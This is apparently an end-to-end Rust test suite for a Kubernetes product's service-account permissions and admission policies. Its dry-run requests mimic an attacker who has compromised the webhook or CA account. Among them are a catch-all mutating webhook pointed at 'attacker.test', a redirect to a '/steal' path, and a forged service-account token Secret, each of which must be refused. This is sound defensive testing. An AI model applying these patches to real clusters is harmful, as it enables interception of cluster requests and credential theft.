//! Permissions of the product's service accounts, by RBAC and by the policies of `manifests/base/policies`. Every request
//! that must be refused is sent as an attacker would send it, as a dry run.

#![allow(clippy::indexing_slicing, clippy::expect_used, reason = "a value that is missing fails the test")]

mod others;

use std::fmt::Debug;

use anyhow::{Context as _, Result, ensure};
use countersign_contract::objects::{
    WEBHOOK_CONFIGURATION as CONFIGURATION, control_plane::CONFIG_MAP as SETTINGS,
    webhook_secret::SERVING as CERTIFICATE,
};
use countersign_e2e::{
    Cluster,
    cluster::{AUTHORITIES, SYSTEM},
    replicas::{OPERATOR, WEBHOOK, WEBHOOK_CA},
    scenario,
};
use k8s_openapi::api::{
    admissionregistration::v1::{
        MutatingWebhookConfiguration, ValidatingAdmissionPolicy, ValidatingWebhookConfiguration,
    },
    authorization::v1::{ResourceRule, SelfSubjectRulesReview},
    core::v1::{ConfigMap, Secret},
};
use kube::{
    Api, Resource,
    api::{DeleteParams, ListParams, Patch, PatchParams, PostParams},
};
use serde::{Serialize, de::DeserializeOwned};
use serde_json::{Value, json};

/// The prefix of the refusals of our policies.
const OURS: &str = "countersign: ";

fn account(name: &str) -> String {
    format!("system:serviceaccount:{SYSTEM}:{name}")
}

fn create() -> PostParams {
    PostParams { dry_run: true, ..PostParams::default() }
}

fn dry() -> PatchParams {
    PatchParams { dry_run: true, ..PatchParams::default() }
}

/// The reason of a refusal; `None` if the request was accepted, or refused for a reason other than its author and content.
fn refusal<T>(result: kube::Result<T>) -> Result<Option<String>> {
    match result {
        Ok(_) => Ok(None),
        Err(kube::Error::Api(status)) if [403, 422].contains(&status.code) => Ok(Some(status.message.clone())),
        // An object of this name exists, which is checked after all policies.
        Err(kube::Error::Api(status)) if status.code == 409 => Ok(None),
        Err(error) => Err(error.into()),
    }
}

/// Fails unless one of our policies refused the request with a message that contains `named`.
fn refused<T>(what: &str, result: kube::Result<T>, named: &str) -> Result<()> {
    let message = refusal(result)?.with_context(|| format!("{what}: it was let through"))?;
    ensure!(message.contains(OURS) && message.contains(named), "{what}: {message}");
    Ok(())
}

/// Fails unless a request was refused by RBAC.
fn forbidden<T>(what: &str, result: kube::Result<T>) -> Result<()> {
    let message = refusal(result)?.with_context(|| format!("{what}: it was let through"))?;
    ensure!(message.contains(" cannot ") && !message.contains(OURS), "{what}: {message}");
    Ok(())
}

fn passes<T>(what: &str, result: kube::Result<T>) -> Result<()> {
    let message = refusal(result)?;
    ensure!(message.is_none(), "{what}: {}", message.unwrap_or_default());
    Ok(())
}

/// A Secret as JSON.
fn secret(name: &str, kind: &str) -> Result<Secret> {
    let annotations = json!({ "kubernetes.io/service-account.name": OPERATOR });
    let data = json!({ "tls.crt": "", "tls.key": "" });
    let metadata = json!({ "name": name, "annotations": annotations });
    Ok(serde_json::from_value(json!({ "metadata": metadata, "type": kind, "data": data }))?)
}

/// The rules of an account in a namespace that other accounts of its namespace do not have.
async fn own_rules(user: &str, namespace: &str) -> Result<Vec<ResourceRule>> {
    let rules = async |user: &str| -> Result<Vec<ResourceRule>> {
        let reviews = Api::<SelfSubjectRulesReview>::all(Cluster::impersonating(user, &[]).await?.client);
        let review = serde_json::from_value(json!({ "metadata": {}, "spec": { "namespace": namespace } }))?;
        let answer = reviews.create(&PostParams::default(), &review).await?;
        Ok(answer.status.context("no answer")?.resource_rules)
    };
    let everybody = rules(&account("nobody")).await?;
    let mut own = rules(user).await?;
    own.retain(|rule| !everybody.contains(rule));
    Ok(own)
}

#[tokio::test]
async fn the_webhooks_account_reads_what_it_answers_by_and_its_certificate_and_nothing_else() {
    scenario("webhooks-account", async |world| {
        let user = account(WEBHOOK);
        let mut may = Vec::new();
        for rule in own_rules(&user, SYSTEM).await? {
            let named = rule.resource_names.unwrap_or_default().join(",");
            may.push(format!("{} {}/{named}", rule.verbs.join(","), rule.resources.unwrap_or_default().join(",")));
        }
        may.sort();
        // What warnings depend on, which is in all namespaces and no secret.
        let everywhere = ["get,list,watch namespaces/", "get,list,watch trustdomains,workloadidentities/"];
        let here = [format!("get,list,watch configmaps/{SETTINGS}"), format!("get,list,watch secrets/{CERTIFICATE}")];
        let mut wanted: Vec<String> = everywhere.iter().map(|one| (*one).to_owned()).chain(here).collect();
        wanted.sort();
        assert_eq!(may, wanted);
        for namespace in [AUTHORITIES, "kube-system", &world.namespace] {
            let mut elsewhere = Vec::new();
            for rule in own_rules(&user, namespace).await? {
                assert!(rule.resource_names.as_ref().is_none_or(Vec::is_empty), "in {namespace}");
                elsewhere.push(format!("{} {}/", rule.verbs.join(","), rule.resources.unwrap_or_default().join(",")));
            }
            elsewhere.sort();
            assert_eq!(elsewhere, everywhere, "in {namespace}");
        }

        // Found on a cluster: what an attacker could do after compromising the webhook.
        let webhook = Cluster::impersonating(&user, &[]).await?;
        let configurations = Api::<MutatingWebhookConfiguration>::all(webhook.client.clone());
        let patch = Patch::Merge(json!({ "webhooks": [everything()] }));
        forbidden("a webhook for everything", configurations.patch(CONFIGURATION, &dry(), &patch).await)?;
        let patch = Patch::Merge(json!({ "metadata": { "labels": { "a": "b" } } }));
        forbidden("any change", configurations.patch(CONFIGURATION, &dry(), &patch).await)?;
        let secrets = webhook.api::<Secret>(SYSTEM);
        let token = secret("token", "kubernetes.io/service-account-token")?;
        forbidden("a token of the operator's account", secrets.create(&create(), &token).await)?;
        forbidden("the CA", secrets.get(WEBHOOK_CA).await)?;
        forbidden("the Secrets", secrets.list(&ListParams::default()).await)
    })
    .await;
}

/// A webhook that matches every request of the cluster.
fn everything() -> Value {
    json!({
        "name": "everything.attacker.test", "admissionReviewVersions": ["v1"], "sideEffects": "None",
        "clientConfig": { "url": "https://attacker.test/" }, "failurePolicy": "Ignore",
        "rules": [{ "apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"], "scope": "*" }],
    })
}

/// A change of a configuration, and text that the refusal must contain.
type Change = (&'static str, fn(&mut Value), &'static str);

const ALONE: &str = "clientConfig.caBundle of a webhook and nothing else";
const ADDED: &str = "add, remove, rename or move";
const LABELS: &str = "labels, annotations, finalizers or owners";

const CHANGES: [Change; 18] = [
    ("a webhook for everything", |one| webhooks(one).push(everything()), ADDED),
    ("no webhooks", |one| webhooks(one).clear(), ADDED),
    ("another name", |one| webhooks(one)[0]["name"] = json!("other.countersign.dev"), ADDED),
    ("another URL", |one| webhooks(one)[0]["clientConfig"] = json!({ "url": "https://attacker.test/" }), ALONE),
    ("another service", |one| webhooks(one)[0]["clientConfig"]["service"]["name"] = json!("attacker"), ALONE),
    ("another namespace", |one| webhooks(one)[0]["clientConfig"]["service"]["namespace"] = json!("attacker"), ALONE),
    ("another path", |one| webhooks(one)[0]["clientConfig"]["service"]["path"] = json!("/steal"), ALONE),
    ("another port", |one| webhooks(one)[0]["clientConfig"]["service"]["port"] = json!(444), ALONE),
    ("rules for everything", |one| webhooks(one)[0]["rules"] = everything()["rules"].clone(), ALONE),
    ("ignored failures", |one| webhooks(one)[0]["failurePolicy"] = json!("Ignore"), ALONE),
    ("exact matches", |one| webhooks(one)[0]["matchPolicy"] = json!("Exact"), ALONE),
    ("other namespaces", |one| webhooks(one)[0]["namespaceSelector"] = json!({ "matchLabels": { "a": "b" } }), ALONE),
    ("other objects", |one| webhooks(one)[0]["objectSelector"] = json!({ "matchLabels": { "a": "b" } }), ALONE),
    ("another time", |one| webhooks(one)[0]["timeoutSeconds"] = json!(30), ALONE),
    (
        "a condition",
        |one| webhooks(one)[0]["matchConditions"] = json!([{ "name": "never", "expression": "false" }]),
        ALONE,
    ),
    ("a label", |one| one["metadata"]["labels"]["a"] = json!("b"), LABELS),
    ("an annotation", |one| one["metadata"]["annotations"] = json!({ "a": "b" }), LABELS),
    ("a finalizer", |one| one["metadata"]["finalizers"] = json!(["attacker.test/stays"]), LABELS),
];

fn webhooks(configuration: &mut Value) -> &mut Vec<Value> {
    configuration["webhooks"].as_array_mut().expect("webhooks")
}

/// Fails unless the account of the CA can change `caBundle` of a configuration and nothing else.
async fn changes_ca_bundle_alone<K>(ca: &Cluster) -> Result<()>
where
    K: Resource<DynamicType = ()> + Clone + Debug + DeserializeOwned + Serialize,
{
    let configurations = Api::<K>::all(ca.client.clone());
    let read = serde_json::to_value(configurations.get(CONFIGURATION).await?)?;
    let change = async |change: &dyn Fn(&mut Value)| {
        let mut changed = read.clone();
        let metadata = changed["metadata"].as_object_mut().expect("metadata");
        metadata.remove("managedFields");
        change(&mut changed);
        let patch = Patch::Merge(json!({ "metadata": changed["metadata"], "webhooks": changed["webhooks"] }));
        configurations.patch(CONFIGURATION, &dry(), &patch).await
    };
    for (what, one, named) in CHANGES {
        refused(&format!("{}: {what}", K::kind(&())), change(&one).await, named)?;
    }
    let other = |one: &mut Value| {
        for webhook in webhooks(one) {
            webhook["clientConfig"]["caBundle"] = json!("b3RoZXI=");
        }
    };
    passes("another caBundle", change(&other).await)?;
    let both = |one: &mut Value| {
        other(one);
        webhooks(one)[0]["timeoutSeconds"] = json!(29);
    };
    refused("another caBundle, and more", change(&both).await, ALONE)?;
    passes("nothing at all", change(&|_| {}).await)
}

#[tokio::test]
async fn the_account_of_the_webhooks_ca_changes_ca_bundle_alone() {
    scenario("ca-account", async |world| {
        let ca = Cluster::impersonating(&account(WEBHOOK_CA), &[]).await?;
        changes_ca_bundle_alone::<MutatingWebhookConfiguration>(&ca).await?;
        changes_ca_bundle_alone::<ValidatingWebhookConfiguration>(&ca).await?;

        let mutating = Api::<MutatingWebhookConfiguration>::all(world.cluster.client.clone());
        let read = serde_json::to_value(mutating.get(CONFIGURATION).await?)?;
        let configurations = Api::<MutatingWebhookConfiguration>::all(ca.client.clone());
        let patch = |change: fn(&mut Value)| {
            let mut changed = read.clone();
            change(&mut changed);
            Patch::Merge(json!({ "webhooks": changed["webhooks"] }))
        };
        let moved = patch(|one| webhooks(one).reverse());
        refused("another order", configurations.patch(CONFIGURATION, &dry(), &moved).await, ADDED)?;
        let once = patch(|one| webhooks(one)[0]["reinvocationPolicy"] = json!("Never"));
        refused("no second call", configurations.patch(CONFIGURATION, &dry(), &once).await, ALONE)?;
        // In the other configuration this selector is already empty.
        let all = patch(|one| webhooks(one)[0]["namespaceSelector"] = json!({}));
        refused("all namespaces", configurations.patch(CONFIGURATION, &dry(), &all).await, ALONE)?;

        let other = Patch::Merge(json!({ "metadata": { "labels": { "a": "b" } } }));
        forbidden("another's configuration", configurations.patch("other", &dry(), &other).await)?;
        let new: MutatingWebhookConfiguration =
            serde_json::from_value(json!({ "metadata": { "name": "new" }, "webhooks": [everything()] }))?;
        forbidden("a configuration of its own", configurations.create(&create(), &new).await)?;
        forbidden("none at all", configurations.delete(CONFIGURATION, &DeleteParams::default().dry_run()).await)
    })
    .await;
}

/// A field that a later Kubernetes version adds to webhooks must be compared as well: the policy lists all fields.
#[tokio::test]
async fn the_policy_for_the_account_of_the_webhooks_ca_compares_every_field_of_a_webhook() {
    scenario("ca-fields", async |world| {
        let client = &world.cluster.client;
        let policies = Api::<ValidatingAdmissionPolicy>::all(client.clone());
        let policy = policies.get("countersign-webhook-ca-configurations").await?;
        let validations = policy.spec.and_then(|spec| spec.validations).unwrap_or_default();
        let compared: String = validations.into_iter().map(|validation| validation.expression).collect();
        let request = http::Request::get("/openapi/v3/apis/admissionregistration.k8s.io/v1").body(Vec::new())?;
        let served: Value = client.request(request).await.context("what the API server serves")?;
        let schemas = &served["components"]["schemas"];
        for (kind, of, but) in [
            ("MutatingWebhook", "o", ["name", "clientConfig"].as_slice()),
            ("ValidatingWebhook", "o", &["name", "clientConfig"]),
            ("WebhookClientConfig", "o.clientConfig", &["caBundle"]),
        ] {
            let fields = schemas[format!("io.k8s.api.admissionregistration.v1.{kind}")]["properties"].as_object();
            let fields = fields.with_context(|| format!("the API server does not describe {kind}"))?;
            ensure!(fields.len() > 2, "{kind} has {} fields", fields.len());
            for field in fields.keys().filter(|field| !but.contains(&field.as_str())) {
                ensure!(compared.contains(&format!("{of}.?{field} == ")), "{kind}: {field} is not compared");
            }
        }
        Ok(())
    })
    .await;
}

#[tokio::test]
async fn the_account_of_the_webhooks_ca_writes_its_own_secrets_alone() {
    scenario("ca-secrets", async |world| {
        let ca = Cluster::impersonating(&account(WEBHOOK_CA), &[]).await?;
        let secrets = ca.api::<Secret>(SYSTEM);
        for (name, kind) in [
            ("token", "kubernetes.io/service-account-token"),
            (CERTIFICATE, "kubernetes.io/service-account-token"),
            (WEBHOOK_CA, "kubernetes.io/service-account-token"),
            (WEBHOOK_CA, "kubernetes.io/tls"),
            (CERTIFICATE, "Opaque"),
            ("control-plane", "countersign.dev/journal"),
            ("countersign-webhook-tls-2", "kubernetes.io/tls"),
        ] {
            let what = format!("{name} of type {kind}");
            // Of a journal, the policy for journals says so too, and the API server names either of the two.
            let says = if kind == "countersign.dev/journal" {
                "denied request: countersign:"
            } else {
                "may write the Secrets"
            };
            refused(&what, secrets.create(&create(), &secret(name, kind)?).await, says)?;
        }
        for (name, kind) in [(WEBHOOK_CA, "countersign.dev/webhook-ca"), (CERTIFICATE, "kubernetes.io/tls")] {
            passes(name, secrets.create(&create(), &secret(name, kind)?).await)?;
            let read = secrets.get(name).await?;
            ensure!(read.type_.as_deref() == Some(kind), "{name} is of type {:?}", read.type_);
            passes(name, secrets.replace(name, &create(), &read).await)?;
            forbidden(name, secrets.delete(name, &DeleteParams::default().dry_run()).await)?;
        }
        for namespace in [AUTHORITIES, "kube-system", &world.namespace] {
            let elsewhere = ca.api::<Secret>(namespace);
            let made = secret(CERTIFICATE, "kubernetes.io/tls")?;
            forbidden(namespace, elsewhere.create(&create(), &made).await)?;
            forbidden(namespace, elsewhere.list(&ListParams::default()).await)?;
        }
        forbidden("the control plane's settings", ca.api::<ConfigMap>(SYSTEM).get(SETTINGS).await)
    })
    .await;
}
